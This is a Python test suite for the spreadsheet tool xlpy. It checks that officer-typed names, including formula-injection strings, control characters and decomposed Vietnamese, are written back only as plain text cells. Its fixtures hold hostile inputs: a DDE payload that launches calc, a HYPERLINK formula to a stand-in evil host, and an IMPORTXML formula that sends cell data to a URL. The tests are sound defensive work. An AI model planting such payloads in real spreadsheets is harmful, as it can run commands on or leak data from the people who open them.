"""Issue 9, “Text stays text”: whatever an officer types into a name cell — text that starts with
=, +, -, @, a DDE or HYPERLINK payload, characters XML cannot hold, decomposed (NFD) Vietnamese,
32,767 characters, a leading apostrophe, text that looks like a number or a date — comes out of
every sheet and workbook xlpy writes as that same text (after xlpy's one documented
normalisation, NFC and outer white space stripped: :class:`xlpy.schema.base.CellReader`), held as
an inline or shared string and never as a formula or a formula's string result (``t="str"``).

Inputs are written into the package as Excel writes them (an inline string, characters XML
cannot hold as ``_xHHHH_``); outputs are read back twice, with python-calamine and with a
conforming XML parser over the raw parts, and the two readings must agree.
"""

from __future__ import annotations

import re
import shutil
import tempfile
import unicodedata
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
import python_calamine
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from xlpy import actions
from xlpy.features import output_sheets

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "samples" / "so-nganh-100.xlsx"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
CHART = "{http://schemas.openxmlformats.org/drawingml/2006/chart}"
R_ID = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
PKG_RELS = "{http://schemas.openxmlformats.org/package/2006/relationships}"

UNIT = ("Đơn vị", "B2")  # the name of unit SKHCN
CRITERION = ("Tiêu chí", "C3")  # the name of criterion 01
BLOCK = ("Cài đặt", "B2")  # setting "Tên khối", a free text setting
SCORE = ("Tự chấm", "C2")  # SKHCN's own score for 01: text there is an input error
UNIT_CODE, CRITERION_CODE = "SKHCN", "01"

RESULTS, RANKING, DIFFS, CHECKS, COMPLIANCE, MAIL, ERRORS = "Kết quả", "Xếp hạng", "Chênh lệch", "Kiểm tra", "Tuân thủ", \
    "Gửi thư", "Lỗi"
TEXT_TYPES = {"inlineStr", "s"}  # how a text cell may be held; "str" is a formula's cached string result
EXCEL_CELL_LIMIT = 32767

HYPERLINK = '=HYPERLINK("http://evil.example","Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"


def test_the_sheets_and_cells_used_here():
    """The names these tests rely on are the ones xlpy declares and the sample holds."""
    assert {RESULTS, RANKING, DIFFS, CHECKS, COMPLIANCE, MAIL, ERRORS} <= set(output_sheets())
    wb = python_calamine.CalamineWorkbook.from_path(str(SAMPLE))

    def cell(sheet, ref):
        col, row = re.fullmatch(r"([A-Z]+)(\d+)", ref).groups()
        return wb.get_sheet_by_name(sheet).to_python()[int(row) - 1][ord(col) - 65]

    assert cell("Đơn vị", "A1") == "Mã đơn vị" and cell("Đơn vị", "B1") == "Tên đơn vị" and cell("Đơn vị", "A2") == UNIT_CODE
    assert cell("Tiêu chí", "C1") == "Tên tiêu chí" and cell("Tiêu chí", "A3") == CRITERION_CODE
    assert cell("Cài đặt", "A2") == "Tên khối"
    assert cell("Tự chấm", "A2") == UNIT_CODE and cell("Tự chấm", "C1") == CRITERION_CODE
    assert isinstance(cell(*SCORE), float)


# ---------------------------------------------------------------------------------------
# writing input the way Excel does


_ESCAPE_LIKE = re.compile(r"_(?=x[0-9A-Fa-f]{4}_)")  # an underscore that starts what reads as an escape
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0d\x0e-\x1f\ufffe\uffff]")


def excel_escape(s: str) -> str:
    """Text for a ``<t>`` element as Excel writes it: a literal ``_xHHHH_`` guarded with
    ``_x005F_``, characters XML cannot carry (and CR, which XML turns into LF) as ``_xHHHH_``."""
    s = _ESCAPE_LIKE.sub("_x005F_", s)
    s = _NOT_IN_XML.sub(lambda m: f"_x{ord(m.group(0)):04X}_", s)
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def excel_unescape(s: str) -> str:
    """What Excel shows for the text of a ``<t>`` element (after XML parsing)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), s)


def sheet_parts(z: zipfile.ZipFile) -> dict[str, str]:
    """Sheet name → worksheet part, from the workbook and its relationships."""
    rels = {r.get("Id"): r.get("Target") for r in ET.fromstring(z.read("xl/_rels/workbook.xml.rels"))}
    out = {}
    for s in ET.fromstring(z.read("xl/workbook.xml")).iter(MAIN + "sheet"):
        target = rels[s.get(R_ID)]
        out[s.get("name")] = target.lstrip("/") if target.startswith("/") else "xl/" + target
    return out


def put_text(path: Path, cells: dict[tuple[str, str], str]) -> None:
    """Type text into cells: each becomes an inline string cell, the cell's style kept."""
    with zipfile.ZipFile(path) as z:
        files = {i.filename: z.read(i) for i in z.infolist()}
        parts = sheet_parts(z)
    for (sheet, ref), text in cells.items():
        part = parts[sheet]
        xml = files[part].decode("utf-8")
        m = re.search(rf'<c r="{ref}"([^>]*?)(?:/>|>(.*?)</c>)', xml, re.DOTALL)
        assert m, (sheet, ref)
        attrs = re.sub(r'\st="[^"]*"', "", m.group(1))
        cell = f'<c r="{ref}"{attrs} t="inlineStr"><is><t xml:space="preserve">{excel_escape(text)}</t></is></c>'
        files[part] = xml.replace(m.group(0), cell, 1).encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    # the test's own writing is right: calamine reads back exactly what was typed
    wb = python_calamine.CalamineWorkbook.from_path(str(path))
    for (sheet, ref), text in cells.items():
        r, c = rc(ref)
        assert wb.get_sheet_by_name(sheet).to_python()[r][c] == text


def rc(ref: str) -> tuple[int, int]:
    """0-based (row, column) of an A1 reference."""
    col, row = re.fullmatch(r"([A-Z]+)(\d+)", ref).groups()
    c = 0
    for ch in col:
        c = c * 26 + ord(ch) - 64
    return int(row) - 1, c - 1


# ---------------------------------------------------------------------------------------
# reading what xlpy wrote


@dataclass
class Cell:
    ref: str
    t: str | None
    formula: bool
    text: str | None  # the text of a text cell, as Excel shows it


@dataclass
class Sheet:
    name: str
    cells: dict[tuple[int, int], Cell]
    tables: list[tuple[str, list[str]]]  # (ref, column names) of the sheet's tables
    chart_labels: list[str]  # category labels cached in the sheet's charts

    def text(self, r: int, c: int) -> str | None:
        cell = self.cells.get((r, c))
        return cell.text if cell else None

    def records(self, *headers: str) -> tuple[int, list[str], list[dict[str, Cell]]]:
        """(header row, header texts, data rows keyed by header) of the table whose header row holds ``headers``."""
        rows: dict[int, dict[int, Cell]] = {}
        for (r, c), cell in self.cells.items():
            rows.setdefault(r, {})[c] = cell
        for r in sorted(rows):
            names = [rows[r][c].text if c in rows[r] else None for c in range(max(rows[r]) + 1)]
            if all(h in names for h in headers):
                out = []
                for r2 in sorted(x for x in rows if x > r):
                    rec = {h: rows[r2][c] for c, h in enumerate(names) if h is not None and c in rows[r2]}
                    if rec:
                        out.append(rec)
                return r, names, out
        raise AssertionError(f"{self.name}: no header row with {headers}")


def _resolve(source: str, target: str) -> str:
    if target.startswith("/"):
        return target.lstrip("/")
    base = source.rpartition("/")[0].split("/")
    for seg in target.split("/"):
        if seg == "..":
            base.pop()
        elif seg not in ("", "."):
            base.append(seg)
    return "/".join(base)


def _rels(z: zipfile.ZipFile, part: str) -> list[tuple[str, str]]:
    d, _, f = part.rpartition("/")
    name = f"{d}/_rels/{f}.rels"
    if name not in z.namelist():
        return []
    return [(r.get("Type").rsplit("/", 1)[-1], _resolve(part, r.get("Target")))
            for r in ET.fromstring(z.read(name)) if r.get("TargetMode") != "External"]


def _text_of(c: ET.Element, shared: list[str]) -> str | None:
    t = c.get("t")
    if t == "inlineStr":
        return excel_unescape("".join(x.text or "" for x in c.iter(MAIN + "t")))
    if t == "s":
        return shared[int(c.find(MAIN + "v").text)]
    if t == "str":
        v = c.find(MAIN + "v")
        return excel_unescape(v.text or "") if v is not None else ""
    return None


def read_sheets(path: Path, names: set[str] | None = None) -> dict[str, Sheet]:
    """The sheets of ``path`` (xlpy's output sheets by default) read from the raw XML with a
    conforming parser; every text cell is checked against python-calamine's reading."""
    names = set(output_sheets()) if names is None else names
    cal = python_calamine.CalamineWorkbook.from_path(str(path))
    out = {}
    with zipfile.ZipFile(path) as z:
        shared = []
        if "xl/sharedStrings.xml" in z.namelist():
            shared = [excel_unescape("".join(t.text or "" for t in si.iter(MAIN + "t")))
                      for si in ET.fromstring(z.read("xl/sharedStrings.xml")).iter(MAIN + "si")]
        for name, part in sheet_parts(z).items():
            if name not in names:
                continue
            root = ET.fromstring(z.read(part))
            cells = {}
            for c in root.iter(MAIN + "c"):
                ref = c.get("r")
                cells[rc(ref)] = Cell(ref, c.get("t"), c.find(MAIN + "f") is not None, _text_of(c, shared))
            assert not [e for e in root.iter(MAIN + "f")], f"{name}: a formula element"
            tables, labels = [], []
            for typ, target in _rels(z, part):
                if typ == "table":
                    t = ET.fromstring(z.read(target))
                    tables.append((t.get("ref"), [excel_unescape(tc.get("name")) for tc in t.iter(MAIN + "tableColumn")]))
                elif typ == "drawing":
                    for typ2, chart in _rels(z, target):
                        if typ2 == "chart":
                            cat = ET.fromstring(z.read(chart)).iter(CHART + "cat")
                            labels += [excel_unescape(v.text or "") for c in cat for v in c.iter(CHART + "v")]
            grid = cal.get_sheet_by_name(name).to_python(skip_empty_area=False)
            for (r, col), cell in cells.items():
                if cell.text is not None:
                    got = grid[r][col] if r < len(grid) and col < len(grid[r]) else None
                    assert got == cell.text, (name, cell.ref, got, cell.text)
            out[name] = Sheet(name, cells, tables, labels)
    return out


def assert_text_cells_only(sheets: dict[str, Sheet]) -> None:
    """No formula anywhere; every text cell held as an inline or shared string."""
    for sh in sheets.values():
        for cell in sh.cells.values():
            assert not cell.formula, (sh.name, cell.ref)
            assert cell.t in (None, "n", "b", "inlineStr", "s"), (sh.name, cell.ref, cell.t)


def expected_text(s: str) -> str:
    """xlpy's documented reading of a text cell (CellReader.text): NFC, outer white space stripped."""
    return unicodedata.normalize("NFC", s).strip()


# ---------------------------------------------------------------------------------------
# running xlpy on a copy of the sample


def fresh_copy(folder: Path) -> Path:
    path = folder / "khoi.xlsx"
    shutil.copyfile(SAMPLE, path)
    return path


def only(records: list[dict[str, Cell]], match: dict[str, str]) -> list[dict[str, Cell]]:
    """The records whose cells under the given headers hold the given texts."""
    return [r for r in records if all(k in r and r[k].text == v for k, v in match.items())]


def holds(composed: str, e: str) -> bool:
    """``composed`` (a title or header xlpy builds around ``e``) holds ``e`` whole, or — when the
    whole would pass Excel's cell limit — is cut to the limit with "…", ``e`` running to the cut."""
    if e in composed:
        return True
    if len(composed) != EXCEL_CELL_LIMIT or not composed.endswith("…"):
        return False
    head = composed[:-1]
    return any(head.endswith(e[:k]) for k in range(min(len(e), len(head)), 0, -1))


def check_results(sheets: dict[str, Sheet], e: str, *, table_names: bool = True) -> None:
    """The unit name, the criterion name and the block name ``e`` in Kết quả and Chênh lệch."""
    res = sheets[RESULTS]
    assert holds(res.text(0, 0), e), "the block name in the title"
    _, header, rows = res.records("Mã đơn vị", "Tên đơn vị")
    crit = header[header.index("Tên đơn vị") + 1]
    assert crit.startswith(CRITERION_CODE) and holds(crit, e) and len(crit) <= len(e) + 5, crit
    assert all(len(h) <= EXCEL_CELL_LIMIT for h in header if h)
    [unit] = only(rows, {"Mã đơn vị": UNIT_CODE})
    assert unit["Tên đơn vị"].text == e
    assert unit["Tên đơn vị"].t in TEXT_TYPES
    assert e in res.chart_labels
    if table_names:  # a table's column names must be its header cells' text, or Excel repairs the file
        [(_, cols)] = res.tables
        assert cols == [h for h in header if h is not None]
    diffs = sheets[DIFFS]
    assert holds(diffs.text(0, 0), e)
    _, _, rows = diffs.records("Tiêu chí", "Tên tiêu chí")
    mine = only(rows, {"Tiêu chí": CRITERION_CODE})
    assert mine and all(r["Tên tiêu chí"].text == e and r["Tên tiêu chí"].t in TEXT_TYPES for r in mine)
    for r in only(rows, {"Mã đơn vị": UNIT_CODE}):
        assert r["Tên đơn vị"].text == e


def check_ranking(sheets: dict[str, Sheet], e: str) -> None:
    rk = sheets[RANKING]
    assert holds(rk.text(0, 0), e)
    _, _, rows = rk.records("Mã đơn vị", "Tên đơn vị")
    [unit] = only(rows, {"Mã đơn vị": UNIT_CODE})
    assert unit["Tên đơn vị"].text == e


def check_compliance(sheets: dict[str, Sheet], e: str) -> None:
    _, _, rows = sheets[COMPLIANCE].records("Đối tượng", "Mã", "Tên")
    mine = only(rows, {"Đối tượng": "Tập thể", "Mã": UNIT_CODE})
    assert mine and all(r["Tên"].text == e for r in mine)


_BREAKS = set("\n\r\t\v\f\x1c\x1d\x1e\x85\u2028\u2029")


def header_text(e: str) -> str:
    """The unit name as a mail header holds it, by xlpy's documented rule (xlpy/mail/headers.py):
    a name holding a line break, tab or invisible control (Cc, Cf, Cs) has breaks turned into
    spaces, controls dropped and white space collapsed; any other name is kept as it is."""
    cat = unicodedata.category
    if not any(ch in _BREAKS or cat(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp") for ch in e):
        return e
    out = "".join(" " if ch in _BREAKS or cat(ch) in ("Zl", "Zp") else "" if cat(ch) in ("Cc", "Cf", "Cs") else ch
                  for ch in unicodedata.normalize("NFC", e))
    return " ".join(out.split())


def check_mail(sheets: dict[str, Sheet], e: str) -> None:
    """The "Gửi thư" sheet lists each message's recipient by the name its header carries."""
    _, _, rows = sheets[MAIL].records("Mã đơn vị", "Tên đơn vị")
    mine = only(rows, {"Mã đơn vị": UNIT_CODE})
    want = header_text(e) or None  # a name of controls only: nothing left
    assert mine and all(r["Tên đơn vị"].text in (want, UNIT_CODE) if want is None else r["Tên đơn vị"].text == want
                        for r in mine)
    assert all(r["Tên đơn vị"].t in TEXT_TYPES for r in mine if r["Tên đơn vị"].text)


def check_error_list(path: Path, s: str) -> dict[str, Sheet]:
    """The error workbook beside ``path`` lists the text typed in the score cell, exactly."""
    errors = path.with_name(f"{path.stem}.loi.xlsx")
    assert errors.exists()
    sheets = read_sheets(errors, {ERRORS})
    assert_text_cells_only(sheets)
    _, _, rows = sheets[ERRORS].records("Trang", "Ô", "Giá trị gặp", "Cách sửa")
    [row] = only(rows, {"Trang": SCORE[0], "Ô": SCORE[1]})
    assert row["Giá trị gặp"].text == s and row["Giá trị gặp"].t in TEXT_TYPES
    assert holds(row["Cách sửa"].text, f"“{s}”")  # the message quotes it (cut at the cell limit if need be)
    return sheets


# ---------------------------------------------------------------------------------------
# what officers type


def nfd(s: str) -> str:
    return unicodedata.normalize("NFD", s)


VIETNAMESE = ["Sở Khoa học và Công nghệ", "Văn phòng Đoàn đại biểu Quốc hội và Hội đồng nhân dân tỉnh",
              "Trường Đại học Sư phạm – Khối thi đua số 2", "Tổ chức phong trào thi đua; ký giao ước"]
TRICKY = [
    "=1+1", "+1", "-1", "-", "@SUM(A1:A2)", "\t=1+1", DDE, '=HYPERLINK("http://x","y")', HYPERLINK,
    "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "=1+1\n=2+2", " =1", "＝1+1",
    "'", "'007", "'=1+1", "''x", "1/2", "00123", "1e5", "-0", "1,5", "TRUE", "FALSE", "#N/A", "#REF!", "#DIV/0!",
    "15/12/2025", "2025-12-15", "12:30", "50%", "$1", "0x1F",
    "_x0041_", "_x005F_", "_x0041__x0042_", "_xD83D_", "a_x000D_b", "_x",
    "a\x01b", "\x0b\x0c", "a\x00b", "\x7f\x9f", "\x1b[31mđỏ", "a\tb", "a\nb", "dòng 1\ndòng 2",
    "<t>&amp;</t>", "]]>", "&lt;", "\"'\"", "\u202eđảo", "\u200bẩn", "\U0001F3C6 Cờ thi đua", "𝕏",
    *[nfd(v) for v in VIETNAMESE], nfd("Ủy ban"), "Đơn vị\u0301", "\u0301đầu",
    ("Đơn vị " * 5000)[:EXCEL_CELL_LIMIT - 1] + "Z",
]
PREFIXES = ["=", "+", "-", "@", "\t=", "'", "=cmd|", "_x0001_", " ", "\x01"]
# any code point a str can hold in UTF-8, controls included, but the noncharacters U+FFFE and U+FFFF
# (Excel writes them as _xFFFE_, which python-calamine, xlpy's reader, does not decode)
CHARS = st.characters(exclude_categories=("Cs",), exclude_characters="\ufffe\uffff")


def _long(seed: str, n: int) -> str:
    return (seed * (n // len(seed) + 1))[:n]


TEXTS = st.one_of(
    st.sampled_from(TRICKY),
    st.builds(lambda p, t: p + t, st.sampled_from(PREFIXES), st.text(CHARS, max_size=40)),
    st.text(CHARS, min_size=1, max_size=80),
    st.builds(lambda v, t: nfd(v) + t, st.sampled_from(VIETNAMESE), st.text(CHARS, max_size=10)),
    st.builds(_long, st.text(CHARS, min_size=1, max_size=8), st.integers(1000, EXCEL_CELL_LIMIT)),
).filter(lambda s: expected_text(s) != "")

HYPOTHESIS = {"deadline": None, "suppress_health_check": [HealthCheck.too_slow, HealthCheck.data_too_large]}


# ---------------------------------------------------------------------------------------
# properties


@settings(max_examples=40, **HYPOTHESIS)
@given(s=TEXTS)
@example(s=HYPERLINK)
@example(s=DDE)
@example(s="_x0041_\x01")
@example(s=nfd("  Sở Khoa học và Công nghệ  "))
def test_names_stay_text_through_compute(s):
    e = expected_text(s)
    with tempfile.TemporaryDirectory() as d:
        path = fresh_copy(Path(d))
        put_text(path, {UNIT: s, CRITERION: s, BLOCK: s})
        res = actions.run("compute", path)
        assert res.ok, (res.message, [str(p) for p in res.problems.errors])
        sheets = read_sheets(path)
        assert {RESULTS, DIFFS, CHECKS} <= set(sheets)
        assert_text_cells_only(sheets)
        # a tab in a table column name: see test_a_tab_in_a_criterion_name_keeps_the_table_valid (a known bug)
        check_results(sheets, e)


@settings(max_examples=8, **HYPOTHESIS)
@given(s=TEXTS)
@example(s=HYPERLINK)
def test_names_stay_text_through_rank_check_and_send(s):
    e = expected_text(s)
    with tempfile.TemporaryDirectory() as d:
        path = fresh_copy(Path(d))
        put_text(path, {UNIT: s, CRITERION: s, BLOCK: s})
        (Path(d) / "dinh-kem").mkdir()  # no attachments: the reports are not made here
        for name, opts in (("rank", {}), ("check", {}),
                           ("send", {"outbox": Path(d) / "hop-thu", "attach": Path(d) / "dinh-kem"})):
            res = actions.run(name, path, **opts)
            assert not res.problems.errors or name == "send", (name, res.message, [str(p) for p in res.problems.errors])
        sheets = read_sheets(path)
        assert {RANKING, COMPLIANCE, MAIL} <= set(sheets)
        assert_text_cells_only(sheets)
        check_ranking(sheets, e)
        check_compliance(sheets, e)
        check_mail(sheets, e)


@settings(max_examples=10, **HYPOTHESIS)
@given(s=TEXTS.filter(lambda s: s.strip() != ""))
@example(s=DDE)
@example(s="00123")
def test_text_in_a_score_cell_stays_text_in_the_error_list(s):
    with tempfile.TemporaryDirectory() as d:
        path = fresh_copy(Path(d))
        put_text(path, {SCORE: s})
        before = path.read_bytes()
        res = actions.run("compute", path)
        assert not res.ok and path.read_bytes() == before
        assert any(p.sheet == SCORE[0] and p.cell == SCORE[1] for p in res.problems.errors)
        check_error_list(path, s)


# ---------------------------------------------------------------------------------------
# the issue's payloads, plainly


@pytest.fixture
def payload_round(tmp_path):
    """Run every writing action on a sample whose unit name, criterion name and block name are
    ``payload``, then an error run with it in a score cell; return the workbook and error list."""

    def run(payload: str) -> tuple[dict[str, Sheet], dict[str, Sheet], Path]:
        path = fresh_copy(tmp_path)
        put_text(path, {UNIT: payload, CRITERION: payload, BLOCK: payload})
        (tmp_path / "dinh-kem").mkdir()
        for name, opts in (("compute", {}), ("rank", {}), ("check", {}),
                           ("send", {"outbox": tmp_path / "hop-thu", "attach": tmp_path / "dinh-kem"})):
            res = actions.run(name, path, **opts)
            assert res.ok, (name, res.message)
        book = read_sheets(path)
        broken = tmp_path / "loi" / "khoi.xlsx"
        broken.parent.mkdir()
        shutil.copyfile(path, broken)
        put_text(broken, {SCORE: payload})
        assert not actions.run("compute", broken).ok
        errors = check_error_list(broken, payload)
        return book, errors, path

    return run


@pytest.mark.parametrize("payload", [HYPERLINK, DDE], ids=["hyperlink", "dde"])
def test_the_issues_payloads_are_strings_everywhere(payload_round, payload):
    book, errors, path = payload_round(payload)
    assert_text_cells_only(book)
    check_results(book, payload)
    check_ranking(book, payload)
    check_compliance(book, payload)
    check_mail(book, payload)
    # every cell holding the payload, in every sheet written, is a string cell with exactly that text
    for sheets, where in ((book, (RESULTS, DIFFS, RANKING, COMPLIANCE, MAIL)), (errors, (ERRORS,))):
        for name in where:
            holding = [c for c in sheets[name].cells.values() if c.text and payload in c.text]
            assert holding, f"{name} does not show the payload"
            assert all(c.t in TEXT_TYPES and not c.formula for c in holding), name
    # and in the raw XML the payload is element text, escaped once, never inside <f>
    with zipfile.ZipFile(path) as z:
        parts = sheet_parts(z)
        for name in (RESULTS, DIFFS, MAIL):
            xml = z.read(parts[name]).decode("utf-8")
            assert payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") in xml
            assert "<f>" not in xml and "<f " not in xml and 't="str"' not in xml


def test_a_settings_text_cell_holding_a_formula_stays_text(tmp_path):
    path = fresh_copy(tmp_path)
    put_text(path, {BLOCK: HYPERLINK})
    assert actions.run("compute", path).ok
    sheets = read_sheets(path)
    assert_text_cells_only(sheets)
    for name in (RESULTS, DIFFS):
        title = sheets[name].cells[(0, 0)]
        assert HYPERLINK in title.text and title.t in TEXT_TYPES and not title.formula


# ---------------------------------------------------------------------------------------
# known bugs, kept as failing tests


def test_a_carriage_return_stays(tmp_path):
    s = "Sở Khoa học\r\nvà Công nghệ"
    path = fresh_copy(tmp_path)
    put_text(path, {UNIT: s, CRITERION: s, BLOCK: s})
    assert actions.run("compute", path).ok
    check_results(read_sheets(path), s)


def test_overlapping_escape_like_sequences_stay(tmp_path):
    s = "_x005F_x0041_"
    path = fresh_copy(tmp_path)
    put_text(path, {UNIT: s})
    assert actions.run("compute", path).ok
    [unit] = only(read_sheets(path)[RESULTS].records("Mã đơn vị")[2], {"Mã đơn vị": UNIT_CODE})
    assert unit["Tên đơn vị"].text == s


def test_a_tab_in_a_criterion_name_keeps_the_table_valid(tmp_path):
    s = "Tổ chức\tphong trào"
    path = fresh_copy(tmp_path)
    put_text(path, {CRITERION: s})
    assert actions.run("compute", path).ok
    [(_, cols)] = read_sheets(path)[RESULTS].tables
    assert f"{CRITERION_CODE} – {s}" in cols


def test_no_cell_xlpy_writes_exceeds_excels_limit(tmp_path):
    s = ("Đơn vị " * 5000)[:EXCEL_CELL_LIMIT - 1] + "Z"  # 32,767 characters, the most a cell holds
    path = fresh_copy(tmp_path)
    put_text(path, {UNIT: s, CRITERION: s, BLOCK: s})
    assert actions.run("compute", path).ok
    sheets = read_sheets(path)
    [unit] = only(sheets[RESULTS].records("Mã đơn vị")[2], {"Mã đơn vị": UNIT_CODE})
    assert unit["Tên đơn vị"].text == s  # the name itself is whole
    too_long = [(sh.name, c.ref, len(c.text)) for sh in sheets.values() for c in sh.cells.values()
                if c.text and len(c.text) > EXCEL_CELL_LIMIT]
    assert not too_long


# ---------------------------------------------------------------------------------------
# the xlwings door (no Excel here: the values handed to Excel are checked)


@settings(max_examples=300, deadline=None)
@given(s=st.one_of(st.sampled_from(TRICKY), st.text(CHARS, min_size=1, max_size=60)))
def test_xlwings_door_gives_excel_every_text_with_the_text_prefix(s):
    from xlpy.book.sheet import OutputSheet
    from xlpy.excel.xwbook import _plain, _plan

    assert _plain(s) == "'" + s
    out = OutputSheet(RESULTS, ["Mã đơn vị", "Tên đơn vị", "Tổng điểm"], [[UNIT_CODE, s, 105.5], [s, s, 1]], notes=[s])
    plan = _plan(out)
    assert plan["table"][1] == ["'" + UNIT_CODE, "'" + s, 105.5]
    assert plan["table"][2] == ["'" + s, "'" + s, 1]
    assert plan["notes"] == [["'" + s]]


def test_xlwings_door_fills_input_cells_with_the_text_prefix():
    from xlpy.excel.xwbook import XwBook

    class Range:
        value = None

    class FakeSheet:
        def __init__(self):
            self.cells = {}

        def range(self, rc):
            return self.cells.setdefault(rc, Range())

    class FakeBook:
        name = "khoi.xlsx"

        def __init__(self):
            self.sheets = {"Tự chấm": FakeSheet()}

    fake = FakeBook()
    assert XwBook(fake).fill_cells("Tự chấm", {(2, 1): DDE, (2, 2): "00123", (2, 3): 7.5}) == 3
    cells = fake.sheets["Tự chấm"].cells
    assert [cells[(2, c)].value for c in (1, 2, 3)] == ["'" + DDE, "'00123", 7.5]
